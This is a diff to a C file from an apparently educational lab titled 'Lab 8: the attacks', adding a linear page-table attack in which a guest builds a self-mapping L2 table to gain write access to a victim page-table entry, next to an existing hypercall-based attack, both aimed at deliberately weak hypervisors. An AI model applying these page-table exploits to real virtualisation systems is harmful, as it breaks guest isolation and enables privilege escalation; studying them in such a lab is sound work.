@@ -1,5 +1,5 @@
 /* SPDX-License-Identifier: MIT */
-/* Lab 8: the attacks. README.md describes the three weak hypervisors, lab.h what there is to use. */
+/* Lab 8: the attacks. README.md describes the weak hypervisors, lab.h what there is to use. */
 #include "lab.h"
 
 #define RO         (PTE_P | PTE_A | PTE_D)
@@ -20,6 +20,25 @@ long attack_table(pte_t *victim)
 		rc = hypercall_update_va_mapping((unsigned long)window, entry(victim, RW), UVMF_INVLPG);
 	if (!rc)
 		*(volatile pte_t *)window = loot();
+	return rc;
+}
+
+/* A table that names itself at SELF shows all its tables as pages there: the processor takes it for an L1. The entry that
+ * names the victim may allow writing, as usual; it is the one that names the table itself that must not. */
+long attack_linear(pte_t *victim)
+{
+	enum {
+		VICTIM,
+		SELF
+	};
+	pte_t *l2 = page_alloc();
+	long rc;
+
+	l2[VICTIM] = entry(victim, RW | PTE_U);
+	l2[SELF] = entry(l2, RW | PTE_U);
+	rc = hook_l2(l2);
+	if (!rc)
+		*(volatile pte_t *)(HOLE + SELF * 0x200000ul + VICTIM * PAGE_SIZE) = loot();
 	return rc;
 }
 
